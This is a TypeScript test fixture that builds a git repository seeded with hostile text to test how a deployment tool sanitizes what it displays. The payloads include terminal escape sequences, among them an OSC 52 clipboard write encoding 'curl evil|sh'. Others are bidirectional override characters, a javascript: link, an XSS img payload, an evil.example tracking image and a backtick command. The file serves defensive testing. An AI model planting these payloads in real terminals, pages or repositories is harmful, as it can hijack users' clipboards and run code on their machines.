/**
 * One hostile service repository (built in a temp dir: its file names hold control characters):
 * terminal escapes (ESC sequences, OSC 0 retitle, OSC 52 clipboard write, BEL, C1 CSI),
 * bidirectional overrides and isolates, Markdown links and images, raw HTML, autolinks and
 * backticks in every free-text value a reader takes — descriptor, flags, migration names and SQL —
 * while the names that become command arguments stay valid.
 */
import { execFileSync } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';

export const ESC = '\u001b';
export const BEL = '\u0007';
/** What must never reach a terminal or a page as it is. */
export const UNSAFE_CHARS =
  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

export const HOSTILE = {
  retitle: `${ESC}]0;PWNED-TITLE${BEL}`,
  clipboard: `${ESC}]52;c;Y3VybCBldmlsfHNo${BEL}`,
  clear: `${ESC}[2J${ESC}[H`,
  csi: '\u009b31m',
  rlo: '\u202e',
  isolate: '\u2066x\u2069',
  lrm: '\u200e',
  link: '[click](javascript:alert(1))',
  image: '![](http://evil.example/pixel.png)',
  html: '<img src=x onerror=alert(1)>',
  autolink: 'www.evil.example https://evil.example/a user@evil.example <https://evil.example/b>',
  entity: '&#x202e;&lt;b&gt;',
  backticks: '`whoami` ``x``',
};

const ALL = Object.values(HOSTILE).join(' ');
/** rollbook.yaml refuses control characters (a located input error): there, only the other kinds. */
const TEXTUAL = Object.values(HOSTILE)
  .filter((v) => !/[\u0000-\u001f\u007f-\u009f]/.test(v))
  .join(' ');

/** A YAML double-quoted scalar (JSON is valid YAML: control characters become escapes). */
const y = (s: string) => JSON.stringify(s);

const DEPLOYMENT = `apiVersion: apps/v1
kind: Deployment
metadata:
  name: shop
  namespace: shop
spec:
  replicas: 2
  selector: { matchLabels: { app: shop } }
  template:
    metadata: { labels: { app: shop } }
    spec:
      containers:
        - name: app
          image: ghcr.io/acme/shop:1.2.3
`;

/** Writes the repository into `dir` and commits it (two commits, tags v1 and v2). */
export function buildHostileRepo(dir: string): void {
  const files: Record<string, string> = {
    'rollbook.yaml': `version: 1
service: shop
owners: [${y(`team${HOSTILE.rlo}`)}, ${y(HOSTILE.link)}]
deploy:
  platform: kubernetes
  workload: deployment/shop
  namespace: shop
  manifests: [deploy]
state:
  migrations: { tool: golang-migrate, path: db/migrations, database: postgres }
  flags: [{ provider: flagd, file: flags/flags.json }]
  writes:
    - { store: s3://receipts, description: ${y(`receipts ${TEXTUAL}`)} }
dependencies:
  - { name: inventory-api, relation: calls, compatibility: ${y(`v2 ${HOSTILE.lrm}${HOSTILE.rlo}`)} }
signals:
  - { name: error-ratio, query: ${y(`rate(x[5m]) ${HOSTILE.isolate}${HOSTILE.backticks}`)}, threshold: 0.02, for: 5m }
roles:
  rollback: [${y(`on-call${HOSTILE.rlo}`)}]
comms: { channel: ${y(`#inc${HOSTILE.isolate}${HOSTILE.image}`)}, statusPage: true }
history:
  procedure: ${y(`revert ${TEXTUAL}`)}
`,
    'deploy/deployment.yaml': DEPLOYMENT,
    'flags/flags.json': JSON.stringify({
      flags: {
        [`kill${HOSTILE.clear}${HOSTILE.link}`]: {
          state: 'ENABLED',
          variants: { on: true, off: false },
          defaultVariant: 'on',
        },
      },
    }),
    'db/migrations/000001_create.up.sql': 'CREATE TABLE orders (id int PRIMARY KEY, note text);\n',
    'db/migrations/000001_create.down.sql': 'DROP TABLE orders;\n',
  };
  const v2: Record<string, string> = {
    [`db/migrations/000002_drop${HOSTILE.retitle}${HOSTILE.rlo}${HOSTILE.link.replace(/[/()]/g, '_')}.up.sql`]: `-- ${ALL}\nALTER TABLE orders DROP COLUMN note;\nCOMMENT ON TABLE orders IS ${sqlString(ALL)};\n`,
    [`db/migrations/000002_drop${HOSTILE.retitle}${HOSTILE.rlo}${HOSTILE.link.replace(/[/()]/g, '_')}.down.sql`]:
      'ALTER TABLE orders ADD COLUMN note text;\n',
  };
  const write = (all: Record<string, string>) => {
    for (const [rel, text] of Object.entries(all)) {
      mkdirSync(dirname(join(dir, rel)), { recursive: true });
      writeFileSync(join(dir, rel), text);
    }
  };
  const git = (...args: string[]) =>
    execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.com', ...args], {
      cwd: dir,
      stdio: 'pipe',
    });
  write(files);
  git('init', '-q', '-b', 'main');
  git('add', '-A');
  git('commit', '-q', '-m', 'v1');
  git('tag', 'v1.0.0');
  write(v2);
  git('add', '-A');
  git('commit', '-q', '-m', `v2 ${HOSTILE.retitle}`);
  git('tag', 'v1.1.0');
}

function sqlString(s: string): string {
  return `'${s.replace(/'/g, "''")}'`;
}
